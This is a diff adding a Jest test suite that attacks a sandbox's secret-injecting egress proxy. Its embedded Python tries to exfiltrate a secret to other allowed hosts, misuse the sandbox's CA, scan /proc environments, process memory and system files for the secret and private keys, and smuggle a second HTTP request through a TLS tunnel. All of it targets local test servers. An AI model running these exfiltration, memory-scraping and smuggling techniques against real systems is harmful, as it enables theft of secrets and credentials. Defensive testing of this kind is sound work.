@@ -1,0 +1,211 @@
+'use strict';
+// rootless: yes
+// Attack suite, `secrets`. The box holds a placeholder for a secret whose value the egress
+// proxy writes into requests to one host (`api`, HTTPS on 127.0.0.1). It tries to get the value
+// out: by sending the placeholder to an allowed host that is not the secret's (`other`, HTTPS,
+// and `plain`, HTTP), by using the per-Sandbox CA it trusts against that other host, by looking
+// for the CA's private key, and by searching itself (environment, /proc, process memory, files)
+// for the value. The servers record what arrived; the host is checked to be untouched.
+
+const crypto = require('crypto');
+const { opts, requireRootfs, tempDirs } = require('../helpers');
+const { hostGuard, runJson } = require('./host');
+const { makeTestCa, trustTestCa, untrustTestCa, startHttps, startHttp, stopAll } = require('../tls-servers');
+const { Sandbox } = require('../..');
+
+const suite = { guard: null, dirs: tempDirs() };
+const VALUE = `sk-attack-${crypto.randomBytes(16).toString('hex')}`;
+
+let tls;
+let api;
+let other;
+let plain;
+let sb;
+
+beforeAll(async () => {
+  requireRootfs();
+  suite.guard = await hostGuard();
+  tls = makeTestCa(suite.dirs.temp('kern-secrets-attack-'));
+  trustTestCa(tls.caFile);
+  api = await startHttps(tls);
+  other = await startHttps(tls);
+  plain = await startHttp();
+  const allow = [api, other, plain].map((s) => `127.0.0.1:${s.port}`);
+  sb = await new Sandbox(opts({ egressAllow: allow, secrets: { KEY: { value: VALUE, hosts: [`127.0.0.1:${api.port}`] } } })).open();
+});
+
+afterAll(async () => {
+  if (sb) await sb.close();
+  stopAll(api, other, plain);
+  untrustTestCa();
+  await suite.guard.assertNoLeaks();
+  suite.guard.cleanup();
+  suite.dirs.removeAll();
+});
+
+/** Every request any server got, as the host saw it. */
+const everything = () => JSON.stringify([api.seen, other.seen, plain.seen]);
+
+const PY = [
+  'import hashlib, json, os, re, socket, ssl, urllib.request',
+  'KEY = os.environ["KEY"]',
+  'PROXY = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])',
+  'def bundle_ca():',
+  '    """The last certificate of the bundle the box trusts: the per-Sandbox CA."""',
+  '    text = open(os.environ["SSL_CERT_FILE"]).read()',
+  '    return re.findall(r"-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----", text)[-1]',
+  'def tls_get(port, path, ctx):',
+  '    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=20), server_hostname="127.0.0.1")',
+  '    der = s.getpeercert(binary_form=True)',
+  '    s.sendall(f"GET {path} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nAuthorization: Bearer {KEY}\\r\\nConnection: close\\r\\n\\r\\n".encode())',
+  '    out = b""',
+  '    while True:',
+  '        c = s.recv(65536)',
+  '        if not c: break',
+  '        out += c',
+  '    return hashlib.sha256(der).hexdigest(), out.split(b"\\r\\n")[0].decode()',
+].join('\n');
+
+const realCertSha = () => crypto.createHash('sha256').update(new crypto.X509Certificate(tls.cert).raw).digest('hex');
+
+test('the placeholder sent to an allowed host that is not the secret\'s arrives as the placeholder', async () => {
+  const { j } = await runJson(sb, [
+    PY,
+    'out = {}',
+    'ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE',
+    `out["other_tls"] = tls_get(${other.port}, "/exfil-tls?k=" + KEY, ctx)[1]`,
+    `req = urllib.request.Request(f"http://127.0.0.1:${plain.port}/exfil-plain?k={KEY}", headers={"Authorization": "Bearer " + KEY, "X-" + KEY: KEY})`,
+    'out["plain"] = urllib.request.urlopen(req, timeout=20).status',
+    // Through the proxy, absolute-form: the placeholder in the URL and the headers.
+    's = socket.create_connection(("127.0.0.1", PROXY), timeout=20)',
+    `s.sendall(f"GET http://127.0.0.1:${plain.port}/exfil-proxy?k={KEY} HTTP/1.1\\r\\nHost: 127.0.0.1:${plain.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n".encode())`,
+    'out["proxy"] = s.recv(100).split(b" ")[1].decode()',
+    'print(json.dumps(out))',
+  ].join('\n'));
+  expect(j).toEqual({ other_tls: 'HTTP/1.1 200 OK', plain: 200, proxy: '200' });
+  const ph = (await sb.run(['sh', '-c', 'printf %s "$KEY"'])).stdout;
+  expect(ph).toMatch(/^kern-secret-[0-9a-f]{32}$/);
+  const tlsGot = other.seen.find((r) => r.url.startsWith('/exfil-tls'));
+  expect(tlsGot.url).toBe(`/exfil-tls?k=${ph}`);
+  expect(tlsGot.headers.authorization).toBe(`Bearer ${ph}`);
+  for (const path of ['/exfil-plain', '/exfil-proxy']) {
+    const got = plain.seen.find((r) => r.url.startsWith(path));
+    expect(got.url).toBe(`${path}?k=${ph}`);
+    expect(got.headers.authorization).toBe(`Bearer ${ph}`);
+  }
+  expect(everything()).not.toContain(VALUE);
+  suite.guard.assertUntouched();
+});
+
+test('the per-Sandbox CA does not make the box trust, or the proxy intercept, another host', async () => {
+  const before = other.seen.length;
+  const { j } = await runJson(sb, [
+    PY,
+    'ca = ssl.create_default_context(cadata=bundle_ca())',
+    'out = {}',
+    'try:',
+    `    out["other"] = tls_get(${other.port}, "/ca-misuse", ca)`,
+    'except ssl.SSLCertVerificationError as e:',
+    '    out["other"] = "verify failed: " + e.verify_message',
+    // The same CA is what the secret's host presents (the proxy terminates there).
+    `out["api"] = tls_get(${api.port}, "/ca-control", ca)`,
+    'raw = ssl.create_default_context(); raw.check_hostname = False; raw.verify_mode = ssl.CERT_NONE',
+    `out["other_cert"] = tls_get(${other.port}, "/ca-raw", raw)[0]`,
+    'print(json.dumps(out))',
+  ].join('\n'));
+  expect(j.other).toMatch(/^verify failed: /);
+  expect(j.api[1]).toBe('HTTP/1.1 200 OK');
+  // The box saw the real server's certificate for the other host, and the proxy's for the api.
+  expect(j.other_cert).toBe(realCertSha());
+  expect(j.api[0]).not.toBe(realCertSha());
+  expect(other.seen.slice(before).map((r) => r.url)).toEqual(['/ca-raw']);
+  expect(api.seen.find((r) => r.url === '/ca-control').headers.authorization).toBe(`Bearer ${VALUE}`);
+  suite.guard.assertUntouched();
+});
+
+test('neither the value nor the CA\'s private key is anywhere in the box', async () => {
+  // The search must not carry what it looks for (it would find itself): it matches the value's
+  // shape and compares a hash, and spells the key's PEM label as a pattern. Memory is searched
+  // for the value only (TLS libraries hold the label as a constant).
+  const sha = crypto.createHash('sha256').update(VALUE).digest('hex');
+  const { j } = await runJson(sb, [
+    'import hashlib, json, os, re, subprocess',
+    `SHA = ${JSON.stringify(sha)}`,
+    'SHAPE = re.compile(rb"sk-attack-[0-9a-f]{32}")',
+    'LABEL = re.compile(rb"PRIVATE[ ]KEY")',
+    'PH = os.environ["KEY"].encode()',
+    // A second process holding the environment, as a workload's children do.
+    'child = subprocess.Popen(["sleep", "60"])',
+    'found = {"value": [], "key": [], "ph": []}',
+    'scanned = {"environ": 0, "mem": 0, "files": 0}',
+    'def look(where, data, key=True):',
+    '    if any(hashlib.sha256(m).hexdigest() == SHA for m in SHAPE.findall(data)): found["value"].append(where)',
+    '    if key and LABEL.search(data): found["key"].append(where)',
+    '    if PH in data: found["ph"].append(where)',
+    'for pid in [p for p in os.listdir("/proc") if p.isdigit()]:',
+    '    for f in ("environ", "cmdline"):',
+    '        try:',
+    '            look(f"/proc/{pid}/{f}", open(f"/proc/{pid}/{f}", "rb").read()); scanned["environ"] += 1',
+    '        except OSError: pass',
+    '    try:',
+    '        maps = open(f"/proc/{pid}/maps").read().splitlines()',
+    '        mem = open(f"/proc/{pid}/mem", "rb", 0)',
+    '    except OSError: continue',
+    '    for line in maps:',
+    '        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (\\S+)", line)',
+    '        lo, hi, perms = int(m[1], 16), int(m[2], 16), m[3]',
+    '        if "r" not in perms or hi - lo > 1 << 30 or "[vvar" in line: continue',
+    '        try:',
+    '            mem.seek(lo); data = mem.read(hi - lo)',
+    '        except (OSError, OverflowError, ValueError): continue',
+    '        scanned["mem"] += len(data)',
+    '        look(f"/proc/{pid}/mem", data, key=False)',
+    'for top in ("/etc", "/tmp", "/workspace", "/run", "/root", "/home", "/var", "/opt", "/srv"):',
+    '    for d, _, files in os.walk(top):',
+    '        for f in files:',
+    '            p = os.path.join(d, f)',
+    '            try:',
+    '                if not os.path.isfile(p) or os.path.islink(p): continue',
+    '                look(p, open(p, "rb").read()); scanned["files"] += 1',
+    '            except OSError: pass',
+    'child.kill()',
+    'print(json.dumps({"found": found, "scanned": scanned, "child": child.pid}))',
+  ].join('\n'));
+  expect(j.found.value).toEqual([]);
+  expect(j.found.key).toEqual([]);
+  // The search could have found them: it read the environments, memory and files, and found
+  // the placeholder in the child's environment and memory.
+  expect(j.scanned.environ).toBeGreaterThan(0);
+  expect(j.scanned.mem).toBeGreaterThan(1 << 20);
+  expect(j.scanned.files).toBeGreaterThan(10);
+  expect(j.found.ph).toContain(`/proc/${j.child}/environ`);
+  expect(j.found.ph).toContain(`/proc/${j.child}/mem`);
+  suite.guard.assertUntouched();
+});
+
+test('a request head the box forges cannot move the value to another host', async () => {
+  // Smuggling a second request behind the first, inside a tunnel to the secret's host: only
+  // the first head is rewritten (the upstream is told to close after it), and the connection
+  // only ever reaches the secret's host anyway.
+  const before = api.seen.length;
+  const { j } = await runJson(sb, [
+    PY,
+    'ctx = ssl.create_default_context(cadata=bundle_ca())',
+    `s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", ${api.port}), timeout=20), server_hostname="127.0.0.1")`,
+    `first = f"GET /smuggle-1 HTTP/1.1\\r\\nHost: 127.0.0.1:${api.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n"`,
+    `second = f"GET /smuggle-2 HTTP/1.1\\r\\nHost: 127.0.0.1:${plain.port}\\r\\nAuthorization: Bearer {KEY}\\r\\n\\r\\n"`,
+    's.sendall((first + second).encode())',
+    'out = b""',
+    'while True:',
+    '    c = s.recv(65536)',
+    '    if not c: break',
+    '    out += c',
+    'print(json.dumps({"responses": out.count(b"HTTP/1.1 ")}))',
+  ].join('\n'));
+  expect(j.responses).toBe(1);
+  const got = api.seen.slice(before);
+  expect(got.map((r) => r.url)).toEqual(['/smuggle-1']);
+  expect(got[0].headers.authorization).toBe(`Bearer ${VALUE}`);
+  expect(plain.seen.find((r) => r.url.startsWith('/smuggle'))).toBeUndefined();
+  suite.guard.assertUntouched();
+});
